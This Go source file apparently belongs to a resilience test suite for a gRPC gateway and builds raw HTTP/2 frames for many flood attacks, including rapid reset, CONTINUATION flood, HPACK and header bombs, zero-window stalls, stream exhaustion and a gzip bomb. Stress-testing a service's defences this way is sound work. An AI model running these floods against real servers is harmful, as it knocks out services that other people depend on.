package main

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"
)

// Floods over HTTP/2, written frame by frame.

// floodService is whom floods call, where they call anybody.
const floodService = "SpareOne"

var floodNonce int64 = 1 << 40 // of no caller that is counted

// h2 makes frames and remembers nothing.
type h2 struct {
	buffer bytes.Buffer
	framer *http2.Framer
	block  bytes.Buffer
	hpack  *hpack.Encoder
}

func newH2() *h2 {
	h := &h2{}
	h.framer = http2.NewFramer(&h.buffer, nil)
	h.framer.AllowIllegalWrites = true
	h.hpack = hpack.NewEncoder(&h.block)
	return h
}

func (h *h2) take() []byte {
	out := append([]byte{}, h.buffer.Bytes()...)
	h.buffer.Reset()
	return out
}

// fields encodes a header block.
func (h *h2) fields(pairs ...string) []byte {
	h.block.Reset()
	for i := 0; i+1 < len(pairs); i += 2 {
		_ = h.hpack.WriteField(hpack.HeaderField{Name: pairs[i], Value: pairs[i+1]})
	}
	return append([]byte{}, h.block.Bytes()...)
}

func (h *h2) callFields(service string, more ...string) []byte {
	return h.fields(append([]string{":method", "POST", ":scheme", "http", ":path", "/" + interfaceOf(service) + "/Work",
		":authority", "koine", "content-type", "application/grpc", "te", "trailers"}, more...)...)
}

func (h *h2) headers(stream uint32, block []byte, end bool) []byte {
	_ = h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndHeaders: true, EndStream: end})
	return h.take()
}

func (h *h2) data(stream uint32, data []byte, end bool) []byte {
	_ = h.framer.WriteData(stream, end, data)
	return h.take()
}

func (h *h2) preface(settings ...http2.Setting) []byte {
	h.buffer.WriteString(http2.ClientPreface)
	_ = h.framer.WriteSettings(settings...)
	return h.take()
}

func http2HeadersWithoutEnd(block []byte) http2.HeadersFrameParam {
	return http2.HeadersFrameParam{StreamID: 1, BlockFragment: block}
}

// grpcMessage with its prefix.
func grpcMessage(body []byte, compressed byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{compressed}, uint32(len(body))), body...)
}

// floodJob is a legal job whose answer has `answerBytes`.
func floodJob(answerBytes int) []byte {
	body, _ := proto.Marshal(derivedJob(newJob(floodNonce, 100, answerBytes, 0)))
	return grpcMessage(body, 0)
}

func rapidReset(c *floodConn) {
	h := newH2()
	c.drain()
	if !c.send(h.preface()) {
		return
	}
	message := floodJob(100)
	for stream := uint32(1); ; stream += 2 {
		frames := append(h.headers(stream, h.callFields(floodService), false), h.data(stream, message, true)...)
		_ = h.framer.WriteRSTStream(stream, http2.ErrCodeCancel)
		if !c.send(append(frames, h.take()...)) {
			return
		}
	}
}

func continuation(c *floodConn) {
	h := newH2()
	c.drain()
	_ = h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.callFields(floodService)})
	first := h.take()
	if !c.send(h.preface()) || !c.send(first) {
		return
	}
	block := h.fields("x-a", "b")
	for {
		_ = h.framer.WriteContinuation(1, false, block)
		if !c.send(h.take()) {
			return
		}
	}
}

func settingsFlood(c *floodConn) {
	h := newH2()
	c.notice()
	if !c.send(h.preface()) {
		return
	}
	for i := uint32(0); ; i++ {
		_ = h.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 - i%2})
		if !c.send(h.take()) {
			return
		}
	}
}

func pingFlood(c *floodConn) {
	h := newH2()
	c.notice()
	if !c.send(h.preface()) {
		return
	}
	for {
		for range 50 {
			_ = h.framer.WritePing(false, [8]byte{1})
		}
		if !c.send(h.take()) {
			return
		}
	}
}

func emptyData(c *floodConn) {
	h := newH2()
	c.drain()
	if !c.send(h.preface()) || !c.send(h.headers(1, h.callFields(floodService), false)) {
		return
	}
	for {
		if !c.send(h.data(1, nil, false)) {
			return
		}
	}
}

func priorityFlood(c *floodConn) {
	h := newH2()
	c.drain()
	if !c.send(h.preface()) {
		return
	}
	for stream := uint32(1); ; stream += 2 {
		for i := range uint32(50) {
			_ = h.framer.WritePriority(stream+2*i, http2.PriorityParam{StreamDep: 0, Weight: byte(i)})
		}
		stream += 100
		if !c.send(h.take()) {
			return
		}
		if stream > 1<<30 {
			stream = 1
		}
	}
}

// hpackBomb puts one long field into the table and names it thousands of times.
func hpackBomb(c *floodConn) {
	h := newH2()
	c.drain()
	if !c.send(h.preface()) {
		return
	}
	long := strings.Repeat("a", 3900)
	first := h.callFields(floodService, "x-bomb", long)
	if !c.send(h.headers(1, first, true)) {
		return
	}
	for stream := uint32(3); ; stream += 2 {
		block := append(h.callFields(floodService), bytes.Repeat([]byte{0x80 | 62}, 8000)...)
		if !c.send(h.headers(stream, block, true)) {
			return
		}
	}
}

// headersBomb sends as many different fields as fit a frame.
func headersBomb(c *floodConn) {
	h := newH2()
	c.drain()
	if !c.send(h.preface()) {
		return
	}
	var pairs []string
	for i := range 700 {
		pairs = append(pairs, "x-"+strings.Repeat("k", 3)+string(rune('a'+i%26))+string(rune('a'+i/26)), strings.Repeat("v", 8))
	}
	for stream := uint32(1); ; stream += 2 {
		block := h.callFields(floodService, pairs...)
		if len(block) > 16000 {
			block = block[:16000]
		}
		if !c.send(h.headers(stream, block, true)) {
			return
		}
	}
}

// zeroWindow asks for large answers and never opens a window for them.
func zeroWindow(c *floodConn) {
	h := newH2()
	c.drain()
	if !c.send(h.preface(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})) {
		return
	}
	message := floodJob(payloadMax)
	for stream := uint32(1); stream < 2*90; stream += 2 {
		if !c.send(append(h.headers(stream, h.callFields(floodService), false), h.data(stream, message, true)...)) {
			return
		}
	}
	for !c.stopped() {
		time.Sleep(100 * time.Millisecond)
	}
}

// tinyWindow takes its answers byte by byte.
func tinyWindow(c *floodConn) {
	h := newH2()
	c.drain()
	if !c.send(h.preface(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})) {
		return
	}
	message := floodJob(payloadMax)
	for stream := uint32(1); stream < 2*50; stream += 2 {
		if !c.send(append(h.headers(stream, h.callFields(floodService), false), h.data(stream, message, true)...)) {
			return
		}
	}
	for {
		for stream := uint32(1); stream < 2*50; stream += 2 {
			_ = h.framer.WriteWindowUpdate(stream, 1)
		}
		if !c.send(h.take()) {
			return
		}
		// Quicker than the gateway answers, most of them would meet no DATA: a flood of WINDOW_UPDATEs, which ends the connection.
		time.Sleep(5 * time.Millisecond)
	}
}

// manyStreams opens more streams than SETTINGS_MAX_CONCURRENT_STREAMS allows, and ends none.
func manyStreams(c *floodConn) {
	h := newH2()
	c.drain()
	if !c.send(h.preface()) {
		return
	}
	for stream := uint32(1); ; stream += 2 {
		if !c.send(h.headers(stream, h.callFields(floodService), false)) {
			return
		}
	}
}

// gzipBomb: ten kilobytes that inflate to ten megabytes.
func gzipBomb(c *floodConn) {
	h := newH2()
	c.drain()
	var packed bytes.Buffer
	writer := gzip.NewWriter(&packed)
	_, _ = writer.Write(make([]byte, 10<<20))
	_ = writer.Close()
	message := grpcMessage(packed.Bytes(), 1)
	if !c.send(h.preface()) {
		return
	}
	for stream := uint32(1); ; stream += 2 {
		frames := h.headers(stream, h.callFields(floodService, "grpc-encoding", "gzip"), false)
		if !c.send(append(frames, h.data(stream, message, true)...)) {
			return
		}
		if stream > 4000 {
			return
		}
		time.Sleep(time.Millisecond)
	}
}

// grpcOversize declares messages of 4 GiB, and sends as much of them as it may.
func grpcOversize(c *floodConn) {
	h := newH2()
	c.drain()
	if !c.send(h.preface()) {
		return
	}
	chunk := make([]byte, 8192)
	for stream := uint32(1); stream < 2000; stream += 2 {
		frames := append(h.headers(stream, h.callFields(floodService), false), h.data(stream, []byte{0, 0xff, 0xff, 0xff, 0xff}, false)...)
		for range 4 {
			frames = append(frames, h.data(stream, chunk, false)...)
		}
		if !c.send(frames) {
			return
		}
		time.Sleep(time.Millisecond)
	}
}

// grpcUnread asks for large answers with wide windows, and does not read from its socket.
func grpcUnread(c *floodConn) {
	h := newH2()
	_ = h.framer.WriteWindowUpdate(0, 1<<30)
	window := h.take()
	if !c.send(append(h.preface(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30}), window...)) {
		return
	}
	message := floodJob(payloadMax)
	for stream := uint32(1); stream < 2*unreadCalls && !c.stopped(); stream += 2 {
		if !c.send(append(h.headers(stream, h.callFields(floodService), false), h.data(stream, message, true)...)) {
			return
		}
	}
	c.idle()
}

// pourUnread opens streams whose answers have no end, with wide windows, and does not read from its socket.
func pourUnread(c *floodConn) {
	h := newH2()
	_ = h.framer.WriteWindowUpdate(0, 1<<30)
	window := h.take()
	if !c.send(append(h.preface(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30}), window...)) {
		return
	}
	body, _ := proto.Marshal(ownJob(newJob(floodNonce, 100, payloadMax, 0)))
	for stream := uint32(1); stream < 2*4; stream += 2 {
		fields := h.fields(":method", "POST", ":scheme", "http", ":path", "/"+interfaceOf("ShakyGrpc")+"/"+pourMethod,
			":authority", "koine", "content-type", "application/grpc", "te", "trailers")
		if !c.send(append(h.headers(stream, fields, false), h.data(stream, grpcMessage(body, 0), true)...)) {
			return
		}
	}
	c.idle()
}

// pourMethod is called by floods alone.
const pourMethod = "Pour"
